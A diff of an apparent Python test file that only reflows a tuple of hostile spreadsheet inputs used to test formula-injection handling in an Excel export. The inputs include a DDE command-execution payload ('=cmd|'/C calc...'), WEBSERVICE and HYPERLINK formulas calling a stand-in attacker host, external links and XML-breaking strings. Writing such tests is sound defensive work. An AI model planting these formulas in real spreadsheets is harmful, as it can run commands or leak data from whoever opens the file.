@@ -29,8 +29,8 @@ EXAMPLE = ROOT / "examples" / "betere_buren.xlsx"
 HOSTILE = (  # the second goes to the first scenario, whose name stands in a formula
     "={n}+1", "{n}" + "z" * 40_000, "+{n}", "-{n}", "@SUM({n})", "\t={n}", "\r={n}",
     "=cmd|'/C calc{n}'!A0", "Pret!A1 {n}", "{{={n}}}", "http://kwaad{n}.example/x",
-    "internal:Omzet!A{n}", "external:kwaad{n}.xlsx", "mailto:kwaad{n}@example.org", "'={n}", "&L&F&Z {n}",
-    '=HYPERLINK("http://kwaad";"{n}")', "=WEBSERVICE(\"http://kwaad{n}\")",
+    "internal:Omzet!A{n}", "external:kwaad{n}.xlsx", "mailto:kwaad{n}@example.org",
+    "'={n}", "&L&F&Z {n}", '=HYPERLINK("http://kwaad";"{n}")', "=WEBSERVICE(\"http://kwaad{n}\")",
     "bel\x07{n}\x00", "half\ud83d{n}\ufffe", "_x003D_{n}", '</t><f>{n}</f>"&<', "<f>{n}</f>",
 )  # fmt: skip
 MOST_IN_FORMULA, MOST_IN_FOOTER, HIGHEST_ROW = 8192, 255, 409
